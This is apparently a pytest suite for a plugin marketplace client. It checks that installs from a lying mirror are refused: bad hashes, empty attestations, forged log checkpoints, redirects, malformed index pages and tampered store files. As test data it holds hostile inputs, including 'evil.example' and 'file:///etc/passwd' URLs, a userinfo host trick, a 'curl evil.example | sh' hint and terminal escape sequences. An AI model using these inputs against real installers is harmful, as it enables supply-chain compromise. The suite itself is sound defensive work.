"""Attacks on whoever installs, over HTTP: each is refused by its rule and leaves nothing; its honest twin is let in."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from tests.marketplace.client.mirror import Mirror, mirroring
from tests.marketplace.client.world import Owner, World, running

from lumosai_marketplace.client.resolve import Wanted
from lumosai_marketplace.errors import IndexUnavailableError, RefusedError
from lumosai_marketplace.names import Name
from lumosai_marketplace.store.check import check
from lumosai_sdk.errors import LumosError

WEATHER = Name("acme", "weather")
CLOCK = "clock = true"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running(Path(tmp_path_factory.mktemp("world"))) as made:
        made.publish(version="1.0.0", permissions=CLOCK)
        made.publish(version="1.1.0", permissions=CLOCK)
        made.publish("acme_weather", "2.0.0", permissions='clock = true\nhttp = ["GET https://api.example.org/*"]')
        made.publish("other_weather", "9.0.0")
        yield made


@pytest.fixture
async def mirror(world: World) -> AsyncIterator[Mirror]:
    async with mirroring(world.url) as made:
        yield made


@pytest.fixture
def owner(world: World, mirror: Mirror) -> Owner:
    return world.owner(index=mirror.url)


async def install(owner: Owner, url: str, text: str = "acme/weather==1.1.0", **options: Any) -> str:
    async with owner.session(**options) as session:
        return (await session.install(Wanted.parse(text), url)).plugin.version


async def refused(owner: Owner, url: str, text: str = "acme/weather==1.1.0", **options: Any) -> RefusedError:
    """See an install refused, with no file in the store and the lock as it was; and its honest twin let in."""
    before = owner.lock_text, owner.files()
    with pytest.raises(RefusedError) as e:
        await install(owner, url, text, **options)
    assert (owner.lock_text, owner.files()) == before
    return e.value


async def honest(mirror: Mirror, owner: Owner, text: str = "acme/weather==1.1.0", **options: Any) -> None:
    """See that the same owner installs the same plugin once the mirror tells the truth."""
    mirror.lies.clear()
    assert await install(owner, mirror.url, text, **options)
    assert owner.files()


# --- 1: a mirror swaps bytes


async def test_a_mirror_that_says_a_wheel_has_less_than_nothing(mirror: Mirror, owner: Owner) -> None:
    mirror.file(lambda file: file.update(size=-1))
    mirror.lies["files/"] = lambda body: body + b"\0" * 5_000_000
    assert (await refused(owner, mirror.url)).rule == "index.hash"
    await honest(mirror, owner)


# --- 2: an old file's attestation


@pytest.mark.parametrize(
    "body", [b"", b"{}", b"[]", b"null", b'{"version": 1, "attestation_bundles": []}', b"[" * 9999]
)
async def test_provenance_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["integrity/"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule.startswith("signature.")
    await honest(mirror, owner)


async def test_the_one_statement_that_says_what_a_plugin_may_do_is_enough(mirror: Mirror, owner: Owner) -> None:
    """publish/v1 says whose it is, and so does plugin/v1."""

    def lie(body: bytes) -> bytes:
        document = json.loads(body)
        del document["attestation_bundles"][0]["attestations"][0]
        return json.dumps(document).encode()

    mirror.lies["integrity/"] = lie
    assert await install(owner, mirror.url) == "1.1.0"


# --- 8: the log forks


@pytest.mark.parametrize(
    "body", [b"", b"nonsense", b"\xff", b"127.0.0.1\n1\nAAAA\n\n\xe2\x80\x94 127.0.0.1 AAAAAAAA\n"]
)
async def test_a_checkpoint_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["log/checkpoint"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule.startswith("log.")
    await honest(mirror, owner)


# --- 14: dependency confusion


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/files/x",
        "https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "http://127.0.0.1@evil.example/x",
    ],
)
async def test_a_page_that_leads_elsewhere(mirror: Mirror, owner: Owner, url: str) -> None:
    mirror.file(lambda file: file.update(url=url))
    assert (await refused(owner, mirror.url)).rule == "index.origin"
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "where", ["http://127.0.0.1:9/", "https://evil.example/", "file:///etc/passwd", "/files/again"]
)
async def test_a_redirect_that_leads_elsewhere_or_nowhere(mirror: Mirror, owner: Owner, where: str) -> None:
    def lie(_: bytes) -> web.StreamResponse:
        return web.Response(status=302, headers={"Location": where})

    mirror.lies["files/"] = lie
    assert (await refused(owner, mirror.url)).rule == ("index.redirects" if where[0] == "/" else "index.origin")
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"null", b"{" * 5000, b'{"meta": {"api-version": "2.0"}}', b"[" + b"[]," * 700_000]
)
async def test_a_page_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["simple/"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule == "index.format"
    await honest(mirror, owner)


async def test_an_index_that_breaks_off(mirror: Mirror, owner: Owner) -> None:
    def lie(body: bytes) -> web.StreamResponse:
        return web.Response(status=503, text="try later")

    mirror.lies["files/"] = lie
    with pytest.raises(IndexUnavailableError):
        await install(owner, mirror.url)
    assert owner.files() == []
    await honest(mirror, owner)


async def test_errors_show_no_escape_sequences(mirror: Mirror, owner: Owner) -> None:
    from lumosai_sdk import safe

    def lie(_: bytes) -> web.StreamResponse:
        problem = {"detail": "\x1b[2J\x1b]0;owned\x07", "hint": "curl evil.example | sh", "rule": "x"}
        return web.json_response(problem, status=403)

    mirror.lies["simple/"] = lie
    with pytest.raises(LumosError) as e:
        await install(owner, mirror.url)
    assert "\x1b" not in safe.lines(e.value.message)


# --- 16: an update that asks for more


async def test_permissions_that_the_index_understates(mirror: Mirror, owner: Owner) -> None:
    """What the index says a plugin asks for is never looked at."""
    mirror.file(lambda file: file.update(permissions={}, manifest={"permissions": {}}))
    async with owner.session() as session:
        plugin = (await session.install(Wanted.parse("acme/weather==2.0.0"), mirror.url)).plugin
    assert plugin.permissions.http == ("GET https://api.example.org/*",)


# --- 19: a file is changed in the store after it was verified (see also tests/marketplace/store and client/test_host)


async def test_a_file_that_changes_in_the_store(world: World, mirror: Mirror, owner: Owner) -> None:
    await install(owner, mirror.url)
    plugin = owner.market.read_lock().plugins[WEATHER]
    component = owner.market.store.entry(plugin.sha256) / "files" / "acme_weather" / "plugin.wasm"
    component.write_bytes(component.read_bytes() + b"\0")
    with pytest.raises(RefusedError) as e:
        check(owner.market.store, plugin.sha256, plugin.receipt)
    assert e.value.rule == "lock.changed"
    async with owner.session() as session:
        assert [f.rule for f in await session.audit() if f.bad] == ["lock.changed"]
        assert (await session.install(Wanted(WEATHER))).changed
    check(owner.market.store, plugin.sha256, plugin.receipt)
